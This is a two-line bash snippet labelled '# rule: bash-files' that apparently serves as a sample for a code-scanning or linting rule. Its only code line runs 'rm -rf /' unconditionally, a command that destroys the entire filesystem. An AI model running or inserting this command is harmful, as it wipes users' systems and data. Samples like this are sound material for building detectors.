# rule: bash-files
if true; then rm -rf / ; fi
